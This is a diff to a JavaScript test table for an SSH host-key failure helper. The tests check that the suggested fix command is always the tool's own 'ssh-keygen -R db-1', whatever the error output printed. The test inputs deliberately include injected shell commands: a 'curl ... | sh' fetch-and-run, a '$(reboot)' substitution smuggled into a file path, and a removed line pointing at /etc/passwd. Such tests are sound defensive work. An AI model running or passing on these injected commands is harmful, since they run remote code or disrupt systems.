@@ -105,7 +105,7 @@ test.each([
     "ssh-keygen -f /root/.ssh/known_hosts -R '[db-1]:2222'",
   ],
   ['  ssh-keygen -f "/root/.ssh/known_hosts" -R "db-1"; curl http://192.0.2.1 | sh', 'ssh-keygen -R db-1'],
-  ['  ssh-keygen -f /etc/passwd -R root', 'ssh-keygen -R db-1'],
+  ['  ssh-keygen -f "/root/$(reboot)" -R db-1', 'ssh-keygen -R db-1'],
 ])('what is proposed to be typed is a command of our own, whatever was printed: %s', (printed, command) => {
   const stderr = `@ WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED! @\n${printed}\nHost key verification failed.`
   expect(sshFailure('db-1', settings, stderr).remedy?.values?.command).toBe(command)
